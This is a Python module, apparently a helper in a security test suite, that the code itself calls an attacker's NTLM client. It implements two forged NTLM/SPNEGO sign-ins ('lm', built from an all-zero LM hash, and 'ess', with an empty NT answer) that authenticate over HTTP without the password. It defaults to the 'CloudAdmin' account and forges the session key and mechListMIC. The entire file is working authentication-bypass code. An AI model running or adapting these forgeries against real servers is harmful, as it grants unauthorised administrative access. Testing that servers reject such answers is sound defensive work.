"""An attacker's NTLM client (no tests here): it signs in without knowing the password.

Two known forgeries against an acceptor that still takes NTLMv1-era answers:
* "lm": an LM-only answer computed from an all-zero LM hash (DESL of 16 zero bytes over the server
  challenge) and an empty NT answer;
* "ess": extended session security with an empty NT answer, where the LM field is only the
  client challenge and 16 zero bytes, so it matches whatever LM hash the server stores.
The tokens are built with pyspnego's raw NTLM/SPNEGO structures (test code only, never the product),
sent raw under the `NTLM` scheme or wrapped in SPNEGO under `Negotiate`, over one kept-alive
connection as NTLM needs.
"""
from __future__ import annotations

import base64
import os

import requests
from spnego._ntlm_raw.crypto import desl, kxkey, rc4init, rc4k, sealkey, signkey
from spnego._ntlm_raw.messages import Authenticate, Challenge, Negotiate, NegotiateFlags
from spnego._ntlm_raw.security import sign
from spnego._spnego import GSSMech, NegTokenInit, NegTokenResp, pack_mech_type_list, unpack_token

SOAP = "application/soap+xml;charset=UTF-8"
_FLAGS = (NegotiateFlags.unicode | NegotiateFlags.ntlm | NegotiateFlags.request_target
          | NegotiateFlags.always_sign | NegotiateFlags.sign | NegotiateFlags.seal
          | NegotiateFlags.key_128 | NegotiateFlags.key_56 | NegotiateFlags.key_exch)
_ZERO_LM_HASH = b"\x00" * 16


def _header(scheme: str, token: bytes) -> dict[str, str]:
    return {"Authorization": f"{scheme} {base64.b64encode(token).decode()}", "Content-Type": SOAP}


def _challenge_token(resp: requests.Response, wrapped: bool) -> bytes:
    value = resp.headers.get("WWW-Authenticate", "")
    scheme, _, b64 = value.partition(" ")
    if resp.status_code != 401 or not b64:
        raise AssertionError(f"no NTLM challenge: HTTP {resp.status_code} {value!r}")
    raw = base64.b64decode(b64)
    if raw.startswith(b"NTLMSSP\x00"):
        return raw
    token = unpack_token(raw)
    return token.response_token if wrapped else raw


def forged_answer(challenge: bytes, variant: str) -> tuple[int, bytes, bytes, bytes | None]:
    """(flags, LM answer, NT answer, key exchange key or None) that prove nothing about the password.
    For "lm" the key exchange key follows from the zero LM hash, so the forger also knows the
    session key it picks and can sign (the SPNEGO mechListMIC) and seal."""
    server_challenge = Challenge.unpack(challenge).server_challenge
    if variant == "lm":
        flags = _FLAGS | NegotiateFlags.lm_key
        lm = desl(_ZERO_LM_HASH, server_challenge)
        return flags, lm, b"", kxkey(flags, b"", _ZERO_LM_HASH, lm, server_challenge)
    if variant == "ess":
        return _FLAGS | NegotiateFlags.extended_session_security, os.urandom(8) + b"\x00" * 16, b"", None
    raise ValueError(variant)


def _mech_list_mic(flags: int, session_key: bytes) -> bytes:
    handle = rc4init(sealkey(flags, session_key, "initiate"))
    return sign(flags, handle, signkey(flags, session_key, "initiate"), 0, pack_mech_type_list([GSSMech.ntlm.value]))


def forged_sign_in(url: str, variant: str, scheme: str, user: str = "CloudAdmin",
                   domain: str = "AZURESTACK", body: bytes = b"") -> tuple[requests.Session, requests.Response]:
    """Run the whole forged handshake; returns the session (one kept-alive connection) and the
    server's answer to the AUTHENTICATE message, which carries `body`."""
    wrapped = scheme.lower() == "negotiate"
    session = requests.Session()
    negotiate = Negotiate(_FLAGS | NegotiateFlags.extended_session_security
                          if variant == "ess" else _FLAGS | NegotiateFlags.lm_key).pack()
    first = NegTokenInit(mech_types=[GSSMech.ntlm.value], mech_token=negotiate).pack() if wrapped else negotiate
    r1 = session.post(url, data=b"", headers=_header(scheme, first), verify=False, timeout=10)
    flags, lm, nt, kek = forged_answer(_challenge_token(r1, wrapped), variant)
    session_key = os.urandom(16)
    auth = Authenticate(flags=flags, lm_challenge_response=lm, nt_challenge_response=nt,
                        domain_name=domain, username=user, workstation="ATTACKER",
                        encrypted_session_key=rc4k(kek, session_key) if kek else os.urandom(16)).pack()
    mic = _mech_list_mic(flags, session_key) if kek else None
    second = NegTokenResp(response_token=auth, mech_list_mic=mic).pack() if wrapped else auth
    r2 = session.post(url, data=body, headers=_header(scheme, second), verify=False, timeout=10)
    return session, r2
